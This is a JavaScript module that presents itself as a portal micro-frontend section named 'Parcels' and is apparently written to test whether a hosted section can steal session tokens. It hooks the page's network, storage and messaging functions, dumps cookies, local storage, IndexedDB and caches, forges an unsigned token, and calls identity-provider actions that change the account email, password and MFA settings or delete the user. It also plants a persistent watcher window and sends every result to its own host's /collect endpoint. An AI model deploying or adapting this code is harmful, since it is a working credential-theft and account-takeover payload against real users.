// A section on an allowed host that tries to steal tokens. Each technique is a row; results are posted to
// `/collect` of its host.

const host = new URL('.', import.meta.url).href;
const seen = [];
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const { stringify } = JSON;
const native = { fetch: window.fetch.bind(window) };
const toText = (value) => {
  try {
    const getText = (_key, one) => (typeof one === 'function' ? String(one) : one);
    return typeof value === 'string' ? value : (stringify(value, getText) ?? '');
  } catch (error) {
    return String(error);
  }
};
const send = (row, got) =>
  native.fetch(`${host}collect`, { method: 'POST', body: stringify({ row, got: toText(got) }) });

/** Wraps each of the page's functions that a token could pass through. */
function hook(page, where) {
  const note = (name, values) => seen.push(`${where} ${name}: ${values.map(toText).join(' ')}`);
  const before = (owner, name) => {
    const original = owner?.[name];
    if (typeof original !== 'function') return;
    owner[name] = function replaced(...given) {
      note(name, given);
      const result = Reflect.apply(original, this, given);
      Promise.resolve(result).then(
        (value) => note(`${name} gave`, [value instanceof page.Response ? [...value.headers] : value]),
        () => undefined,
      );
      return result;
    };
  };
  const beforeNew = (name) => {
    const Native = page[name];
    if (typeof Native !== 'function') return;
    page[name] = new Proxy(Native, {
      construct(target, given, newTarget) {
        note(`new ${name}`, given);
        const made = Reflect.construct(target, given, newTarget);
        if (name === 'Request') note('Request headers', [[...made.headers]]);
        if (name === 'WebSocket')
          made.addEventListener('message', ({ data }) => note('socket message', [data]));
        return made;
      },
    });
  };
  before(page, 'fetch');
  for (const name of ['Request', 'Headers', 'WebSocket', 'BroadcastChannel']) beforeNew(name);
  for (const name of ['set', 'append']) before(page.Headers.prototype, name);
  for (const name of ['open', 'setRequestHeader', 'send']) before(page.XMLHttpRequest.prototype, name);
  for (const name of ['parse', 'stringify']) before(page.JSON, name);
  for (const name of ['json', 'text', 'arrayBuffer']) before(page.Response.prototype, name);
  for (const name of ['setItem', 'getItem']) before(page.Storage.prototype, name);
  for (const owner of [page.MessagePort, page.BroadcastChannel, page.Worker])
    before(owner?.prototype, 'postMessage');
  before(page, 'postMessage');
  before(page, 'atob');
  page.addEventListener('message', ({ data }) => note('message', [data]));
}

hook(window, 'page');

const readPageData = () => JSON.parse(document.getElementById('portal-page')?.textContent ?? '{}');
const getSession = () => readPageData().sessions?.current?.id ?? '';
const describeAnswer = async (answer) =>
  `${answer.status} ${toText([...answer.headers])} ${await answer.text()}`;

/** A request like those of the portal's own scripts. */
const ask = async (path, init = {}) =>
  describeAnswer(
    await native.fetch(path, {
      ...init,
      headers: { 'x-portal-session': getSession(), 'content-type': 'application/json', ...init.headers },
    }),
  );

async function dumpDatabases() {
  const found = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise((resolve, reject) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => resolve(opening.result);
      opening.onerror = () => reject(opening.error);
    });
    for (const store of database.objectStoreNames) {
      const reading = database.transaction(store).objectStore(store).getAll();
      await new Promise((resolve) => (reading.onsuccess = resolve));
      found.push([name, store, reading.result]);
    }
    database.close();
  }
  return found;
}

async function dumpCaches() {
  const found = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys())
      found.push([request.url, await (await cache.match(request)).text()]);
  }
  return found;
}

/** Hooks a document of the portal in a frame or a window as early as possible. */
async function watch(target, where) {
  const hooked = new WeakSet();
  for (let tries = 0; tries < 150; tries += 1) {
    try {
      const { document: shown, fetch: own } = target;
      if (own !== undefined && !hooked.has(own)) {
        hook(target, where);
        hooked.add(target.fetch);
      }
      if (tries === 149) return [shown.URL, shown.documentElement.outerHTML, { ...target.localStorage }];
    } catch (error) {
      return String(error);
    }
    if (target.closed) return 'closed';
    await pause(20);
  }
  return 'nothing';
}

async function watchFrame(prepare, where) {
  const frame = document.createElement('iframe');
  prepare(frame);
  document.body.append(frame);
  const found = await watch(frame.contentWindow, where);
  frame.remove();
  return found;
}

async function watchWindow(path) {
  const opened = window.open(path);
  const found = await watch(opened, `window ${path}`);
  opened.close();
  return found;
}

const registerWorker = (script, options) =>
  navigator.serviceWorker.register(script, options).then(
    () => 'REGISTERED',
    (error) => `refused: ${error.name}`,
  );

/** What the client of a signed-out page would send, with tokens forged from the page's data. */
async function getTokenTexts() {
  const encode = (value) =>
    btoa(JSON.stringify(value)).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_');
  const renewal = await native.fetch('/bff/session', {
    method: 'POST',
    headers: { 'x-portal-session': getSession(), 'content-type': 'application/json' },
    body: '{"active":false}',
  });
  const claims = renewal.ok ? (await renewal.json()).claims : {};
  return {
    unsigned: `${encode({ alg: 'none' })}.${encode(claims)}.`,
    marked: 'held-by-the-portal-server',
    none: undefined,
  };
}

const code = '000000';
const accountActions = {
  SetUserMFAPreference: { SoftwareTokenMfaSettings: { Enabled: true, PreferredMfa: true } },
  UpdateUserAttributes: { UserAttributes: [{ Name: 'email', Value: 'thief@example.test' }] },
  VerifyUserAttribute: { AttributeName: 'email', Code: code },
  ChangePassword: { PreviousPassword: 'Assess-Ontario-2025!', ProposedPassword: 'Stolen-Ontario-2025!' },
  AssociateSoftwareToken: {},
  VerifySoftwareToken: { UserCode: code },
  ConfirmDevice: { DeviceKey: 'ca-central-1_thief', DeviceName: 'thief' },
  UpdateDeviceStatus: { DeviceKey: 'ca-central-1_thief', DeviceRememberedStatus: 'remembered' },
  ListDevices: {},
  GetUser: {},
  StartWebAuthnRegistration: {},
  DeleteUser: {},
  GetTokensFromRefreshToken: { RefreshToken: 'held-by-the-portal-server' },
  InitiateAuth: {
    AuthFlow: 'REFRESH_TOKEN_AUTH',
    AuthParameters: { REFRESH_TOKEN: 'held-by-the-portal-server' },
  },
};

async function tryActions() {
  const { client } = readPageData().identity;
  const found = {};
  for (const [kind, AccessToken] of Object.entries(await getTokenTexts())) {
    for (const [action, body] of Object.entries(accountActions)) {
      const answer = await native.fetch('/bff/idp', {
        method: 'POST',
        headers: {
          'content-type': 'application/x-amz-json-1.1',
          'x-amz-target': `AWSCognitoIdentityProviderService.${action}`,
        },
        body: JSON.stringify({ ClientId: client, AccessToken, ...body }),
      });
      found[`${action} ${kind}`] = `${answer.status} ${await answer.text()}`;
    }
  }
  return found;
}

/** Completes a sign-in to another account that the section's host has started at the provider. */
const completeSignIn = async () => {
  const { client } = readPageData().identity;
  return describeAnswer(
    await native.fetch('/bff/idp', {
      method: 'POST',
      headers: {
        'content-type': 'application/x-amz-json-1.1',
        'x-amz-target': 'AWSCognitoIdentityProviderService.RespondToAuthChallenge',
      },
      body: JSON.stringify({
        ClientId: client,
        ChallengeName: 'CUSTOM_CHALLENGE',
        Session: 'begun-elsewhere',
        ChallengeResponses: { USERNAME: 'thief', ANSWER: code },
      }),
    }),
  );
};

/** Opens a window with this host's script that outlives the signed-in page and attacks the next one. */
function leaveWatcher() {
  const opened = window.open('about:blank', 'watcher');
  const script = opened.document.createElement('script');
  script.src = `${host}watcher.js`;
  opened.document.head.append(script);
  return 'left';
}

const rows = {
  'local storage': () => ({ ...localStorage }),
  'session storage': () => ({ ...sessionStorage }),
  IndexedDB: dumpDatabases,
  caches: dumpCaches,
  cookies: () => document.cookie,
  'cookie store': () => window.cookieStore?.getAll() ?? [],
  'the page': () => document.documentElement.outerHTML,
  'the document again': () => ask(location.href, { headers: { accept: 'text/html' } }),
  'entries of requests': () => performance.getEntries().map(({ name }) => name),
  globals: () => Object.keys(window).map((name) => [name, toText(window[name])]),
  'a renewal': () => ask('/bff/session', { method: 'POST', body: '{"active":true}' }),
  'a call': () => ask('/bff/api/notifications/all'),
  'a token for itself': () => ask('/bff/session/token', { method: 'POST', body: '{"app":"hostile"}' }),
  'a socket': async () => {
    const messages = [];
    const socket = new WebSocket(
      `${location.origin.replace('http', 'ws')}/bff/socket?session=${getSession()}`,
    );
    socket.addEventListener('message', ({ data }) => messages.push(data));
    await pause(1_000);
    const { url, readyState } = socket;
    socket.close();
    return [url, readyState, messages];
  },
  'actions of the provider': tryActions,
  'a sign-in begun elsewhere': completeSignIn,
  'a service worker of its host': () => registerWorker(`${host}main.js`),
  'a service worker of a call': () => registerWorker('/bff/api/notifications/all', { scope: '/bff/api/' }),
  'a service worker of a blob': () =>
    registerWorker(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))),
  'a blank frame': () => watchFrame(() => undefined, 'blank frame'),
  'a frame of a signed-in page': () => watchFrame((frame) => (frame.src = '/home'), 'frame'),
  'a frame of a signed-out page': () => watchFrame((frame) => (frame.src = '/reset'), 'frame'),
  'a window of a signed-in page': () => watchWindow('/home'),
  'a window of a signed-out page': () => watchWindow('/reset'),
  'a window that stays': leaveWatcher,
};

let portal;

async function tryAll() {
  for (const [row, look] of Object.entries(rows)) {
    const got = await Promise.resolve()
      .then(look)
      .catch((error) => `failed: ${String(error)}`);
    await send(row, got);
  }
  // Simulates a return to the page, which makes the portal send calls, and sends a call of its own.
  window.dispatchEvent(new Event('focus'));
  document.dispatchEvent(new Event('visibilitychange'));
  await send('a call of the portal', await portal.http('api').get('/notifications/all').catch(String));
  await pause(500);
  await send('hooks', seen.splice(0));
  await send('the end', '');
}

export const mount = async (props) => {
  portal = props.portal;
  props.domElement.textContent = 'Parcels';
  void tryAll();
};
export const unmount = async ({ domElement }) => domElement.replaceChildren();
